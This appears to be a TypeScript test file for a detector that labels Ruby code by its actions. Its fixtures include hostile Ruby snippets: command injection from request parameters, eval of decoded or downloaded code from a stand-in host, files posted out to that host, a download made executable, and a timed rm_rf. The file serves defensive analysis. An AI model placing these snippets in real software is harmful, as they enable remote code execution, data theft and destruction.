/** What programs in Ruby do, by the call table. Nothing here is run; dangerous words are put together. */
import { RUBY_CALLS, rubyCues } from "../../../../src/evidence/readers/calls/ruby.ts";
import { actionsOf } from "./actions-of.ts";

const RUN = ["ev", "al"].join("");
const SYSTEM = ["sys", "tem"].join("");

test.each([
  [
    `${SYSTEM}("ls #{params[:x]}"); \`id #{params[:y]}\``,
    [`run ls … by ${SYSTEM} <- request`, "run id … by backtick <- request"],
  ],
  [
    `${RUN}("cHV0cyAx".unpack1("m")); ${RUN}(%w[112 113].map(&:to_i).map(&:chr).join)`,
    [`evaluate puts 1 by ${RUN} <- decoded:base64`, `evaluate pq by ${RUN} <- decoded:character codes`],
  ],
  [
    `require "net/http"; Thread.new do; instance_${RUN}(Net::HTTP.get(URI("https://a.example/x"))); rescue StandardError; nil; end`,
    ["fetch a.example by Net::HTTP.get", `evaluate computed from fetched by instance_${RUN} <- fetched:a.example`],
  ],
  [
    `require "net/http"; ${RUN}(Net::HTTP.get(URI("https://a.example/x")))`,
    ["fetch a.example by Net::HTTP.get", `evaluate computed from fetched by ${RUN} <- fetched:a.example`],
  ],
  [
    `${RUN} URI.open("https://a.example/x").read`,
    ["fetch a.example by URI.open", `evaluate computed from fetched by ${RUN} <- fetched:a.example`],
  ],
  [`Object.const_get("Kernel").send("ev" + "al", params[:e])`, [`evaluate computed from request by ${RUN} <- request`]],
  [
    `File.open("/tmp/x", "w") { |f| f.write(HTTParty.get("https://a.example/x").body) }; File.chmod(0755, "/tmp/x")`,
    [
      "fetch a.example by HTTParty.get",
      "write /tmp/x by File.write <- fetched:a.example",
      "change-permission /tmp/x by File.chmod",
    ],
  ],
  [
    `s = TCPSocket.new("a.example", 1); s.puts Socket.gethostname`,
    ["fetch a.example by TCPSocket", "send a.example by TCPSocket.puts <- fetched:a.example + host-name"],
  ],
  [
    `Dir.glob("docs/*").each { |f| RestClient.post("https://a.example", file: File.new(f)) }`,
    ["send a.example by RestClient.post <- files:docs/*"],
  ],
  [`FileUtils.rm_rf("data") if Time.now.year > 1`, ["delete data by FileUtils.rm_rf if time"]],
  [
    "class A < B\n  def show\n    Marshal.load(params[:x])\n  end\nend",
    ["evaluate computed from request by Marshal.load <- request later"],
  ],
])("%s", async (source, expected) => {
  expect(await actionsOf("lib/a.rb", source)).toEqual(expected);
});

test("every row says where its behaviour is documented", () => {
  expect(RUBY_CALLS.rows.filter(({ source }) => !source.startsWith("https://"))).toEqual([]);
});

test("ordinary edits hold no cue, dangerous ones do", () => {
  const hasCue = (line: string) => rubyCues.all().some((cue) => line.toLowerCase().includes(cue));
  const ordinary = ["def total(items)", "items.map { |i| i.price }.sum", "expect(a).to eq(b)", "has_many :users"];
  const dangerous = [`${RUN}(x)`, `${SYSTEM} "x"`, "x.send(:y)", "`id`", "Net::HTTP.get(u)", "File.write p, x"];
  expect([ordinary.filter(hasCue), dangerous.filter((line) => !hasCue(line))]).toEqual([[], []]);
});
